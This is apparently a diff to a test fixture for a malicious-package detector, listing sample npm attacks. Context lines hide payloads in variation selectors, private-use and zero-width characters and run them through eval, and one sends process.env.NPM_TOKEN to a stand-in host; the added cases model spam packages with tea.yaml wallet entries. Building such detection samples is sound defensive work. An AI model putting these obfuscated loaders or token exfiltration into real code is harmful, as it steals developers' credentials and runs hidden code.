@@ -156,4 +156,8 @@ module.exports = async function setup() { const a = await prompts({ type: 'text'
     Attack("34 variation selectors", {"index.js": LIBRARY + "const d = s => [...s].map(c => { c = c.codePointAt(0); return c >= 0xFE00 && c <= 0xFE0F ? c - 0xFE00 : c >= 0xE0100 && c <= 0xE01EF ? c - 0xE0100 + 16 : null }).filter(n => n !== null);\neval(Buffer.from(d(`" + VAR + "`)).toString('utf-8'));\n"}),
     Attack("34 private use letters", {"index.js": LIBRARY + "const v = '" + "".join(chr(0xE000 + b) for b in b"fetch('https://d.invalid/'+process.env.NPM_TOKEN)") + "';\nnew Function([...v].map(c => String.fromCharCode(c.charCodeAt(0) - 0xE000)).join(''))();\n"}),
     Attack("34 zero-width bits", {"index.js": LIBRARY + "const z = '" + "".join("\u200b" if b == "0" else "\u200c" for c in b"1+1;" for b in f"{c:08b}") + "';\nlet b = ''; for (const c of z) b += c === '\u200c' ? '1' : '0';\n(0, eval)(b.match(/.{8}/g).map(x => String.fromCharCode(parseInt(x, 2))).join(''));\n"}),
+    # 35: one of a flood, published for what a scheme pays a package
+    Attack("35 texts and an account", {"README.md": "# quick ocean\n", "tea.yaml": "version: 1.0.0\ncodeOwners:\n  - '0x00000000000000000000000000000000DEADBEEF'\nquorum: 1\n"}),
+    Attack("35 a line of code", {"index.js": "module.exports = {};\n", "LICENSE": "MIT\n", "tea.yaml": "codeOwners: ['0x00000000000000000000000000000000deadbeef']\n"}, manifest={"dependencies": {"quick-river-3": "^1.0.0"}}),
+    Attack("35 ignored files and a test of nothing", {".gitignore": "x\n", "test/t.js": "// none\n", ".tea.yaml": "quorum: 1\ncodeOwners:\n- 0x00000000000000000000000000000000DEADBEEF\n"}),
 )  # fmt: skip
